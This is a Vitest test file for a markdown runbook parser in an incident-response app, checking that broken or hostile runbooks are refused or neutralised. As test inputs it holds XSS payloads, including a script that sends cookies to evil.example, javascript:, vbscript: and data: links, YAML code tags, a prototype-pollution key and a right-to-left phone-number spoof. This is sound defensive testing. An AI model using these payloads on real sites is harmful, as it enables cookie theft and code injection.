import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Problem } from '../../contract/types';
import { renderMarkdown, renderMarkdownInline } from '../../shared/markdown';
import { encode, lineOf, runbookSource, SIMPLE_BODY } from './__fixtures__/runbookSource';
import { isRunbookFileName } from './library';
import { MAX_RUNBOOK_BYTES, parseRunbook, type ParsedRunbook } from './parseRunbook';

const FILE = 'your runbooks/test.md';
const BUNDLED_DIR = resolve(import.meta.dirname, '../../../runbooks');

const parse = (source: string) => parseRunbook(encode(source), FILE);
const errors = (problems: Problem[]) => problems.filter((p) => p.severity === 'error');

/** Every piece of markdown the app would render for this runbook, rendered. */
function renderAll(runbook: ParsedRunbook): string {
  const parts = [renderMarkdown(runbook.intro)];
  for (const phase of runbook.phases) {
    parts.push(renderMarkdown(phase.intro));
    for (const step of phase.steps) {
      parts.push(renderMarkdownInline(step.text), renderMarkdown(step.details));
      for (const option of step.options) parts.push(renderMarkdown(option.text));
    }
  }
  return parts.join('\n');
}

const hrefsIn = (html: string): string[] =>
  [...html.matchAll(/\shref="([^"]*)"/g)].map((m) => m[1] ?? '');

describe('the bundled runbooks', () => {
  const files = readdirSync(BUNDLED_DIR).filter(isRunbookFileName);

  it('are all present (the app ships at least the three launch runbooks)', () => {
    expect(files).toEqual(
      expect.arrayContaining(['ransomware.md', 'lost-device.md', 'care-record-system-down.md']),
    );
  });

  it.each(files)('%s parses with no errors and no warnings', (name) => {
    const outcome = parseRunbook(readFileSync(join(BUNDLED_DIR, name)), `runbooks/${name}`);
    expect(outcome.problems).toEqual([]);
    expect(outcome.runbook?.meta.id).toBe(name.replace(/\.md$/, ''));
  });

  it.each(files)(
    '%s gives every step a unique id and every decision at least one option',
    (name) => {
      const runbook = parseRunbook(
        readFileSync(join(BUNDLED_DIR, name)),
        `runbooks/${name}`,
      ).runbook;
      const steps = runbook?.phases.flatMap((phase) => phase.steps) ?? [];
      expect(steps.length).toBeGreaterThan(0);
      const ids = steps.map((step) => step.id);
      expect(new Set(ids).size).toBe(ids.length);
      for (const step of steps.filter((s) => s.kind === 'decision'))
        expect(step.options.length).toBeGreaterThan(0);
    },
  );
});

describe('front matter that is broken or hostile', () => {
  it('reports invalid YAML on the line where it is', () => {
    const source = runbookSource({ title: 'Ransomware: pay', body: SIMPLE_BODY });
    const { runbook, problems } = parse(source);
    expect(runbook).toBeNull();
    expect(errors(problems)).toEqual([
      expect.objectContaining({
        file: FILE,
        line: 3,
        message: expect.stringContaining('front matter:') as unknown,
      }),
    ]);
  });

  it('reports tab indentation on its line', () => {
    const source = runbookSource({ body: SIMPLE_BODY }).replace(
      'owner: Holdfast tests',
      '\towner: Holdfast tests',
    );
    expect(errors(parse(source).problems)).toEqual([
      expect.objectContaining({ file: FILE, line: 7 }),
    ]);
  });

  it('does not quote a YAML-relative line number that disagrees with the reported line', () => {
    const [problem] = parse(
      runbookSource({ title: 'Ransomware: pay', body: SIMPLE_BODY }),
    ).problems;
    expect(problem?.line).toBe(3);
    expect(problem?.message).not.toMatch(/at line (?!3\b)\d+/);
  });

  it('names a missing required field', () => {
    const source = runbookSource({ body: SIMPLE_BODY }).replace('owner: Holdfast tests\n', '');
    const { runbook, problems } = parse(source);
    expect(runbook).toBeNull();
    expect(errors(problems)).toEqual([
      expect.objectContaining({
        file: FILE,
        line: 1,
        message: 'Looked after by is missing: add a line "owner: …" to the details at the top',
        field: 'owner',
      }),
    ]);
  });

  it('refuses an unknown field (a typo) on its own line', () => {
    const source = runbookSource({ extraFront: ['colour: red'], body: SIMPLE_BODY });
    expect(errors(parse(source).problems)).toEqual([
      expect.objectContaining({
        file: FILE,
        line: 9,
        message: 'front matter: "colour" is not a setting Holdfast knows (check the spelling)',
      }),
    ]);
  });

  it('refuses a category that is not in the list, on the category line', () => {
    const { runbook, problems } = parse(runbookSource({ category: 'burglary', body: SIMPLE_BODY }));
    expect(runbook).toBeNull();
    expect(errors(problems)).toEqual([
      expect.objectContaining({
        file: FILE,
        line: 4,
        message: expect.stringMatching(
          /^Situation it is for must be one of: ransom-or-locked, /,
        ) as unknown,
        field: 'category',
      }),
    ]);
  });

  it('never runs a "---js" front matter block, and says why the file is refused', () => {
    const globals = globalThis as Record<string, unknown>;
    const source = [
      '---js',
      "module.exports = { id: 'x', canary: (globalThis.holdfastCanary = 'front matter code ran') }",
      '---',
      ...SIMPLE_BODY,
    ].join('\n');
    const { runbook, problems } = parse(source);
    expect(globals.holdfastCanary).toBeUndefined();
    expect(runbook).toBeNull();
    expect(problems).toEqual([
      expect.objectContaining({
        file: FILE,
        line: 1,
        severity: 'error',
        message: expect.stringContaining('"---js"') as unknown,
      }),
    ]);
  });

  it('never turns a !!js/function tag into code', () => {
    const globals = globalThis as Record<string, unknown>;
    const source = runbookSource({
      extraFront: ['owner2: !!js/function "function () { globalThis.holdfastCanary2 = 1 }"'],
      body: SIMPLE_BODY,
    });
    const { runbook } = parse(source);
    expect(runbook).toBeNull();
    expect(globals.holdfastCanary2).toBeUndefined();
  });

  it('reports a !!js/function tag on a known field instead of silently reading it as text', () => {
    const source = runbookSource({ body: SIMPLE_BODY }).replace(
      'owner: Holdfast tests',
      'owner: !!js/function "function () { return 1 }"',
    );
    const { problems } = parse(source);
    expect(problems).toEqual([expect.objectContaining({ file: FILE, line: 7 })]);
  });

  it('refuses a __proto__ key without touching Object.prototype', () => {
    const before = Object.getOwnPropertyNames(Object.prototype).sort();
    const source = runbookSource({
      extraFront: ['__proto__:', '  polluted: true', '  isAdmin: true'],
      body: SIMPLE_BODY,
    });
    const { runbook, problems } = parse(source);
    expect(runbook).toBeNull();
    expect(errors(problems)).toEqual([
      expect.objectContaining({
        file: FILE,
        line: 9,
        message: 'front matter: "__proto__" is not a setting Holdfast knows (check the spelling)',
      }),
    ]);
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });

  it('does not apply a YAML merge key (<<), it refuses it as an unknown field', () => {
    const source = runbookSource({ body: SIMPLE_BODY })
      .replace('owner: Holdfast tests\n', '')
      .replace('version: 1', 'version: 1\n<<: { owner: Merged in }');
    const { runbook, problems } = parse(source);
    expect(runbook).toBeNull();
    const messages = errors(problems).map((p) => `${p.line}: ${p.message}`);
    expect(messages).toContain(
      '8: front matter: "<<" is not a setting Holdfast knows (check the spelling)',
    );
    expect(messages).toContain(
      '1: Looked after by is missing: add a line "owner: …" to the details at the top',
    );
  });

  it('refuses duplicate keys, pointing at the second one', () => {
    const source = runbookSource({ extraFront: ['title: A second title'], body: SIMPLE_BODY });
    const { runbook, problems } = parse(source);
    expect(runbook).toBeNull();
    expect(errors(problems)).toEqual([
      expect.objectContaining({
        file: FILE,
        line: 9,
        message: expect.stringMatching(/unique/i) as unknown,
      }),
    ]);
  });

  it('refuses front matter that is never closed', () => {
    const source = [
      '---',
      'id: never-closed',
      'title: Never closed',
      '',
      '## Contain',
      '',
      '1. Step {#a}',
    ].join('\n');
    expect(parse(source)).toEqual({
      runbook: null,
      derivedIds: [],
      draft: false,
      problems: [
        expect.objectContaining({
          file: FILE,
          line: 1,
          severity: 'error',
          message: expect.stringContaining('not closed') as unknown,
        }),
      ],
    });
  });

  it('refuses a file with no front matter, and still reports every problem in the body', () => {
    const problems = parse(
      ['# Ransomware', '', '1. Do not pay. {#do-not-pay}'].join('\n'),
    ).problems;
    expect(problems.map((p) => `${p.line}: ${p.message}`)).toEqual([
      expect.stringMatching(/^1: missing details at the top \(front matter\): .*"owner: …"/),
      '1: no phases: add a "## Phase" heading followed by a numbered list of steps',
      '3: steps must sit under a phase heading such as "## Contain"',
    ]);
  });
});

describe('steps and phases', () => {
  it('gives a step without an id one made from its words, with a warning naming the step', () => {
    const source = runbookSource({
      body: [
        '',
        '## Contain {#contain}',
        '',
        '1. Write down the time. {#note-time}',
        '2. Phone the manager.',
        '3. Phone the manager.',
        '4. Note the time.',
        '',
        '   {#note-the-time} is written further down, so it is not taken again.',
        '',
        '5. Check. {#note-the-time}',
      ],
    });
    const { runbook, problems, derivedIds } = parse(source);
    expect(runbook?.phases[0]?.steps.map((step) => step.id)).toEqual([
      'note-time',
      'phone-the-manager',
      'phone-the-manager-2',
      'note-the-time-2',
      'note-the-time',
    ]);
    expect(derivedIds).toEqual([
      { line: 14, id: 'phone-the-manager' },
      { line: 15, id: 'phone-the-manager-2' },
      { line: 16, id: 'note-the-time-2' },
    ]);
    expect(problems[0]).toEqual({
      file: FILE,
      line: 14,
      severity: 'warning',
      message:
        'Step 2 of "Contain" has no short name yet: saving in the editor adds {#phone-the-manager} at the end of its first line (or type it there yourself)',
    });
    // The same text always gives the same ids.
    expect(parse(source).derivedIds).toEqual(derivedIds);
  });

  it('reports a duplicate step id on the second use, with the line of the first', () => {
    const source = runbookSource({
      body: [
        '',
        '## Contain {#contain}',
        '',
        '1. Write down the time. {#note-time}',
        '',
        '## Tell {#tell}',
        '',
        '1. Write it down again. {#note-time}',
      ],
    });
    expect(parse(source).problems).toEqual([
      {
        file: FILE,
        line: 17,
        severity: 'error',
        message: 'duplicate step id "note-time" (first used on line 13)',
      },
    ]);
  });

  it('refuses a step id with capitals or spaces', () => {
    const source = runbookSource({
      body: ['', '## Contain {#contain}', '', '1. Write down the time. {#Note_Time}'],
    });
    expect(errors(parse(source).problems)).toEqual([
      expect.objectContaining({
        line: 13,
        message: expect.stringContaining('step id "Note_Time" is not valid') as unknown,
      }),
    ]);
  });

  it('refuses numbered steps that sit before any phase heading', () => {
    const source = runbookSource({
      body: ['', '1. Panic. {#panic}', '', '## Contain {#contain}', '', '1. Stay calm. {#calm}'],
    });
    expect(errors(parse(source).problems)).toEqual([
      expect.objectContaining({
        line: 11,
        message: expect.stringContaining('under a phase heading') as unknown,
      }),
    ]);
  });

  it('refuses a body with no phases', () => {
    const source = runbookSource({ body: ['', 'Just some words.'] });
    expect(errors(parse(source).problems)).toEqual([
      expect.objectContaining({
        line: 10,
        message: expect.stringContaining('no phases') as unknown,
      }),
    ]);
  });

  it('warns about a phase with no steps, on its heading line', () => {
    const source = runbookSource({
      body: [...SIMPLE_BODY, '## Learn {#learn}', '', 'Talk about it later.'],
    });
    const { runbook, problems } = parse(source);
    expect(runbook).not.toBeNull();
    expect(problems).toEqual([
      {
        file: FILE,
        line: lineOf(source, '## Learn'),
        severity: 'warning',
        message:
          'phase "Learn" has no numbered steps, so guided mode and the printed pack skip it (only numbered items "1. …" become steps)',
      },
    ]);
  });

  it('numbers steps from 1 in each phase and keeps headline, details and line apart', () => {
    const source = runbookSource({
      body: [
        '',
        '## Contain {#contain}',
        '',
        '1. Write down the time. {#note-time}',
        '',
        '   Use paper if the computers are down.',
        '',
        '## Tell {#tell}',
        '',
        '1. Phone the manager. {#call-manager}',
      ],
    });
    const phases = parse(source).runbook?.phases ?? [];
    expect(phases.map((p) => ({ id: p.id, title: p.title, line: p.line }))).toEqual([
      { id: 'contain', title: 'Contain', line: 11 },
      { id: 'tell', title: 'Tell', line: 17 },
    ]);
    expect(phases[0]?.steps[0]).toMatchObject({
      id: 'note-time',
      number: 1,
      kind: 'action',
      text: 'Write down the time.',
      details: 'Use paper if the computers are down.',
      line: 13,
    });
    expect(phases[1]?.steps[0]).toMatchObject({ id: 'call-manager', number: 1, line: 19 });
  });
});

describe('decision points', () => {
  const source = runbookSource({
    body: [
      '',
      '## Tell {#tell}',
      '',
      '1. Decision: Could personal data be affected? {#personal-data-question}',
      '',
      '   Think about care records and emails.',
      '',
      '   - Yes: go to [report the breach](#report-breach).',
      '   - No: read [the ransomware runbook](runbook:ransomware) instead.',
      '   - Not sure: treat it as yes and [tell CSOC](runbook:ransomware#report-csoc).',
      '   - Later: carry on with the next step.',
      '',
      '2. Report the breach. {#report-breach}',
    ],
  });

  it('reads each option with its label and where it leads (a step, a runbook, or a step of a runbook)', () => {
    const { runbook, problems } = parse(source);
    expect(problems).toEqual([]);
    const step = runbook?.phases[0]?.steps[0];
    expect(step).toMatchObject({
      kind: 'decision',
      text: 'Could personal data be affected?',
      details: 'Think about care records and emails.',
    });
    expect(step?.options.map((o) => ({ label: o.label, goto: o.goto }))).toEqual([
      { label: 'Yes', goto: { step: 'report-breach' } },
      { label: 'No', goto: { runbook: 'ransomware' } },
      { label: 'Not sure', goto: { runbook: 'ransomware', step: 'report-csoc' } },
      { label: 'Later', goto: null },
    ]);
    expect(step?.options[0]?.text).toBe('go to [report the breach](#report-breach).');
  });

  it('marks an option that says "write down why" as asking for a reason, and reads {settles:…} off its text', () => {
    const settling = runbookSource({
      body: [
        '',
        '## Tell {#tell}',
        '',
        '1. Decision: Could personal data be affected? {#personal-data-question}',
        '',
        '   - Yes: go to [report the breach](#report-breach).',
        '   - No: write down why you decided this. {settles:personal-data-breach-72h}',
        '',
        '2. Report the breach. {#report-breach}',
      ],
    });
    const { runbook, problems } = parse(settling);
    expect(problems).toEqual([]);
    const [yes, no] = runbook?.phases[0]?.steps[0]?.options ?? [];
    expect(yes).not.toHaveProperty('asksReason');
    expect(yes).not.toHaveProperty('settles');
    expect(no).toMatchObject({
      label: 'No',
      text: 'write down why you decided this.',
      asksReason: true,
      settles: 'personal-data-breach-72h',
    });
  });

  it('refuses {settles:…} naming a clock that does not exist, on its line', () => {
    const unknown = runbookSource({
      body: [
        '',
        '## Tell {#tell}',
        '',
        '1. Decision: Is anyone hurt? {#hurt-question}',
        '',
        '   - No: carry on. {settles:made-up-clock}',
      ],
    });
    expect(errors(parse(unknown).problems)).toEqual([
      expect.objectContaining({
        line: lineOf(unknown, 'made-up-clock'),
        message: expect.stringContaining('unknown clock "made-up-clock"') as unknown,
      }),
    ]);
  });

  it('takes only the last list as the options: a list before it belongs to the question', () => {
    const anyOf = runbookSource({
      body: [
        '',
        '## Tell {#tell}',
        '',
        '1. Decision: Does any of these apply to your service? {#cqc-question}',
        '',
        '   Answer yes if any of these is true:',
        '',
        "   - you cannot meet people's care needs safely;",
        '   - a call system has failed for more than 24 hours.',
        '',
        '   A fraud that did not affect care does not count.',
        '',
        '   - Yes: go to [tell CQC](#notify-cqc).',
        '   - No: write down why you decided this.',
        '',
        '2. Tell CQC. {#notify-cqc}',
      ],
    });
    const { runbook, problems } = parse(anyOf);
    expect(problems).toEqual([]);
    const step = runbook?.phases[0]?.steps[0];
    expect(step?.options.map((option) => option.label)).toEqual(['Yes', 'No']);
    expect(step?.details).toBe(
      [
        'Answer yes if any of these is true:',
        '',
        "- you cannot meet people's care needs safely;",
        '- a call system has failed for more than 24 hours.',
        '',
        'A fraud that did not affect care does not count.',
      ].join('\n'),
    );
  });

  it('refuses a decision with no options, on its line', () => {
    const bare = runbookSource({
      body: ['', '## Tell {#tell}', '', '1. Decision: Is anyone hurt? {#hurt-question}'],
    });
    expect(errors(parse(bare).problems)).toEqual([
      expect.objectContaining({
        line: 13,
        message: expect.stringContaining('a decision needs options') as unknown,
      }),
    ]);
  });

  it('warns when an option points at a step that does not exist', () => {
    const broken = source.replace('(#report-breach)', '(#report-breech)');
    const { problems } = parse(broken);
    expect(problems).toEqual([
      {
        file: FILE,
        line: lineOf(broken, '#report-breech'),
        severity: 'warning',
        message: 'link to step "#report-breech", but no step has that id',
      },
    ]);
  });
});

describe('stable step ids', () => {
  const original = runbookSource({
    body: [
      '',
      '## Contain {#contain}',
      '',
      '1. Write down the time. {#note-time}',
      '2. Phone the manager. {#call-manager}',
      '3. Unplug the network cable. {#unplug}',
    ],
  });
  const idsAndText = (source: string) =>
    parse(source).runbook?.phases[0]?.steps.map((s) => [s.id, s.text]);

  it('keeps every id when a step is reworded', () => {
    const edited = original.replace(
      'Phone the manager.',
      'Phone the registered manager, or the owner if you cannot reach them.',
    );
    expect(idsAndText(edited)).toEqual([
      ['note-time', 'Write down the time.'],
      ['call-manager', 'Phone the registered manager, or the owner if you cannot reach them.'],
      ['unplug', 'Unplug the network cable.'],
    ]);
  });

  it('keeps each id with its step when steps are reordered', () => {
    const reordered = original
      .replace('1. Write down the time. {#note-time}', '1. Unplug the network cable. {#unplug}')
      .replace('3. Unplug the network cable. {#unplug}', '3. Write down the time. {#note-time}');
    const steps = parse(reordered).runbook?.phases[0]?.steps ?? [];
    expect(steps.map((s) => [s.number, s.id, s.text])).toEqual([
      [1, 'unplug', 'Unplug the network cable.'],
      [2, 'call-manager', 'Phone the manager.'],
      [3, 'note-time', 'Write down the time.'],
    ]);
  });
});

describe('content that is neutralised, with a warning', () => {
  it('shows a <script> block as text and warns on its line', () => {
    const source = runbookSource({
      body: [
        '',
        '## Contain {#contain}',
        '',
        '1. Write down the time. {#note-time}',
        '',
        '   <script>alert(document.cookie)</script>',
        '',
      ],
    });
    const { runbook, problems } = parse(source);
    expect(problems).toEqual([
      {
        file: FILE,
        line: 15,
        severity: 'warning',
        message: 'HTML is not allowed in runbooks; it is shown as plain text',
      },
    ]);
    const html = renderAll(runbook as ParsedRunbook);
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
  });

  it('warns about a multi-line <script> block on the lines that hold its tags', () => {
    const source = runbookSource({
      body: [
        ...SIMPLE_BODY,
        '<script>',
        'fetch("https://evil.example/?" + document.cookie)',
        '</script>',
      ],
    });
    const { runbook, problems } = parse(source);
    expect(problems.length).toBeGreaterThan(0);
    for (const problem of problems) {
      expect(problem).toMatchObject({ file: FILE, severity: 'warning' });
      expect([lineOf(source, '<script>'), lineOf(source, '</script>')]).toContain(problem.line);
    }
    expect(renderAll(runbook as ParsedRunbook)).not.toMatch(/<script/i);
  });

  const badLinks = [
    ['javascript:', '[help](javascript:alert(1))', /^javascript:/i],
    ['mixed-case JaVaScRiPt:', '[help](JaVaScRiPt:alert(1))', /^javascript:/i],
    ['entity-encoded &#74;avascript:', '[help](&#74;avascript:alert(1))', /^javascript:/i],
    ['data:', '[help](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', /^data:/i],
    ['vbscript:', '[help](vbscript:msgbox(1))', /^vbscript:/i],
  ] as const;

  it.each(badLinks)(
    'drops a %s link, warns on its line and renders it as text',
    (_name, link, scheme) => {
      const source = runbookSource({
        body: [
          '',
          '## Contain {#contain}',
          '',
          '1. Write down the time. {#note-time}',
          '',
          `   For ${link} see here.`,
          '',
        ],
      });
      const { runbook, problems } = parse(source);
      expect(problems).toEqual([
        expect.objectContaining({
          file: FILE,
          line: 15,
          severity: 'warning',
          message: expect.stringContaining('is not allowed') as unknown,
        }),
      ]);
      const html = renderAll(runbook as ParsedRunbook);
      expect(html).not.toMatch(/<a\s/);
      for (const href of hrefsIn(html)) expect(href).not.toMatch(scheme);
    },
  );

  it('refuses an email link that fills in more than the subject, naming its line', () => {
    const source = runbookSource({
      body: [
        '',
        '## Contain {#contain}',
        '',
        '1. Write down the time. {#note-time}',
        '',
        '   Email [the lead](mailto:lead@care.example.org?subject=Incident) now.',
        '   Or [this](mailto:lead@care.example.org?cc=boss@else.example&body=Pay%20now).',
        '',
      ],
    });
    const { problems } = parse(source);
    expect(problems).toEqual([
      expect.objectContaining({
        line: lineOf(source, '?cc='),
        severity: 'error',
        message: expect.stringContaining('an email link may set only ?subject=') as unknown,
      }),
    ]);
  });

  describe('phone numbers', () => {
    const withStep = (line: string) =>
      runbookSource({ body: ['', '## Contain {#contain}', '', `1. ${line} {#call}`] });
    const found = (line: string) => {
      const source = withStep(line);
      const at = lineOf(source, '{#call}');
      return parse(source).problems.map((p) => `${p.line - at}:${p.severity}:${p.message}`);
    };

    it('refuses a tel: link whose text is not the number it dials, on its line', () => {
      for (const link of [
        '[0300 303 5222](tel:09098790000)',
        '[call the helpline](tel:03003035222)',
        // A right-to-left override shows "2225 303 0030" as "0300 303 5222".
        '[\u202e2225 303 0030\u202c](tel:03003035222)',
        '[0300 303 5222](tel:0300303522)',
      ]) {
        const problems = found(`Call ${link}.`);
        expect(
          problems.filter((p) => p.startsWith('0:error:')),
          link,
        ).toHaveLength(1);
        expect(problems.join('\n'), link).toMatch(/a phone link must show the number it dials/);
      }
    });

    it('accepts a tel: link that shows what it dials, still warning that the number belongs in contacts', () => {
      for (const link of [
        '[0300 303 5222](tel:03003035222)',
        '[0300 303 5222](tel:0300%20303%205222)',
        '[+44 (0)300 303 5222](tel:+443003035222)',
      ]) {
        const problems = found(`Call ${link}.`);
        expect(
          problems.filter((p) => p.includes(':error:')),
          link,
        ).toEqual([]);
        expect(problems, link).toEqual([expect.stringMatching(/^0:warning:phone number "/)]);
      }
    });

    it('warns about a phone number written into the text, and about hidden characters', () => {
      expect(found('Ring 01632 960123 now.')).toEqual([
        '0:warning:phone number "01632 960123" is written into the runbook; put it in Contacts and use {{contact:role}}, so it is checked and changed in one place',
      ]);
      expect(found('Ring `+44 20 7946 0000` now.')).toHaveLength(1);
      expect(found('Tell \u202eus now.')).toEqual([
        '0:warning:hidden character U+202E can change the order in which the text around it is shown; delete it',
      ]);
      // Short national numbers, dates and times are not contact numbers.
      expect(found('Call 999 or 111, by 2026-12-04 at 09:00, within 72 hours.')).toEqual([]);
    });
  });

  it('never loads a remote image: warns on its line and renders no <img>', () => {
    const source = runbookSource({
      body: [
        '',
        '## Contain {#contain}',
        '',
        '1. Look at this. {#look}',
        '',
        '   ![x](https://evil.example/t.png)',
      ],
    });
    const { runbook, problems } = parse(source);
    expect(problems).toEqual([
      {
        file: FILE,
        line: 15,
        severity: 'warning',
        message: 'images are not shown in Holdfast (pictures from the internet are never loaded)',
      },
    ]);
    const html = renderAll(runbook as ParsedRunbook);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toContain('evil.example');
  });

  it('reports a bad link on the line where it is, not on the first line of its paragraph', () => {
    const source = runbookSource({
      body: [
        '',
        '## Contain {#contain}',
        '',
        '1. Write down the time. {#note-time}',
        '',
        '   Use paper.',
        '   Never click [this](javascript:alert(1)).',
        '   Or load ![this](https://evil.example/t.png).',
      ],
    });
    expect(parse(source).problems.map((p) => p.line)).toEqual([16, 17]);
  });
});

describe('files that are not runbooks at all', () => {
  it('refuses a 5 MB file on line 1, saying how big it is, without parsing it', () => {
    const huge = new Uint8Array(5 * 1024 * 1024).fill(0x61);
    expect(parseRunbook(huge, FILE)).toEqual({
      runbook: null,
      derivedIds: [],
      draft: false,
      problems: [
        {
          file: FILE,
          line: 1,
          severity: 'error',
          message: 'file is too large (5.0 MB; a runbook may be at most 512 KB)',
        },
      ],
    });
  });

  it('accepts a file just under the size limit', () => {
    const source = runbookSource({ body: SIMPLE_BODY });
    const padded =
      source +
      '\n' +
      'Padding text. '.repeat((MAX_RUNBOOK_BYTES - source.length - 100) / 14) +
      '\n';
    expect(encode(padded).byteLength).toBeLessThanOrEqual(MAX_RUNBOOK_BYTES);
    expect(errors(parse(padded).problems)).toEqual([]);
  });

  it('refuses random binary bytes with a plain message', () => {
    const junk = randomBytes(4096);
    junk[100] = 0x00;
    junk[200] = 0xff; // never valid in UTF-8
    expect(parseRunbook(junk, FILE)).toEqual({
      runbook: null,
      derivedIds: [],
      draft: false,
      problems: [
        {
          file: FILE,
          line: 1,
          severity: 'error',
          message: 'this is not a text file (it contains binary data or is not UTF-8)',
        },
      ],
    });
  });

  it('refuses valid UTF-8 that contains a NUL byte', () => {
    const source = runbookSource({ body: SIMPLE_BODY }).replace('Stay calm.', 'Stay\u0000calm.');
    expect(parse(source).problems).toEqual([
      expect.objectContaining({
        line: 1,
        message: expect.stringContaining('not a text file') as unknown,
      }),
    ]);
  });

  it('refuses a file saved in a legacy encoding (invalid UTF-8) rather than showing mangled text', () => {
    const latin1 = Uint8Array.from([
      ...encode(runbookSource({ body: SIMPLE_BODY })),
      0x63,
      0x61,
      0x66,
      0xe9,
      0x0a,
    ]);
    expect(parseRunbook(latin1, FILE).problems).toEqual([
      expect.objectContaining({
        file: FILE,
        line: 1,
        message: expect.stringContaining('not UTF-8') as unknown,
      }),
    ]);
  });

  it('accepts a Windows file (byte order mark and CRLF line endings) and keeps its line numbers', () => {
    const source = runbookSource({ body: [...SIMPLE_BODY, '3. Bad id here. {#Bad}'] });
    const windows = Uint8Array.from([0xef, 0xbb, 0xbf, ...encode(source.replace(/\n/g, '\r\n'))]);
    expect(parseRunbook(windows, FILE).problems).toEqual([
      expect.objectContaining({
        file: FILE,
        line: lineOf(source, '{#Bad}'),
        message: expect.stringContaining('step id "Bad"') as unknown,
      }),
    ]);
  });
});

describe('reading level', () => {
  it('flags a step headline over 30 words, on its line, and keeps the runbook', () => {
    const long = Array.from({ length: 31 }, (_, i) => `word${i}`).join(' ');
    const source = runbookSource({
      body: [
        '',
        '## Contain {#contain}',
        '',
        `1. ${long} {#long}`,
        `2. Call {{contact:it-supplier}} now. {#short}`,
      ],
    });
    const { runbook, problems } = parse(source);
    expect(runbook).not.toBeNull();
    expect(problems).toEqual([
      expect.objectContaining({
        line: lineOf(source, '{#long}'),
        severity: 'warning',
        message: expect.stringMatching(/31 words/) as unknown,
      }),
    ]);
  });
});
